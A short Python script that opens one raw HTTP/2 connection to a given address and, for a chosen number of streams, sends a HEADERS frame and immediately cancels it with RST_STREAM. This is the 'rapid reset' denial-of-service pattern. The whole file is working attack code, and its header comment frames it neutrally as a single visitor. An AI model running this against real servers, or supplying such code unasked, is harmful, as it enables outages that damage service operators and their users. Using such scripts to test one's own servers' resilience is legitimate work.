# One visitor who opens COUNT streams of one connection (HTTP/2, RFC 9113), and resets each at once.  NAME PATH COUNT ADDRESS
import socket, struct, sys, time

name, path, count, address = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(key, value):
    return b"".join([b"\x00", *(bytes([len(text)]) + text.encode() for text in (key, value))])


headers = b"".join(field(f":{key}", value) for key, value in {"method": "GET", "path": path, "scheme": "http", "authority": name}.items())
with socket.create_connection((address, 80)) as connection:
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    for stream in range(1, 2 * count, 2):
        connection.sendall(frame(1, 5, stream, headers))
        time.sleep(0.002)
        connection.sendall(frame(3, 0, stream, struct.pack(">I", 8)))
    time.sleep(0.5)
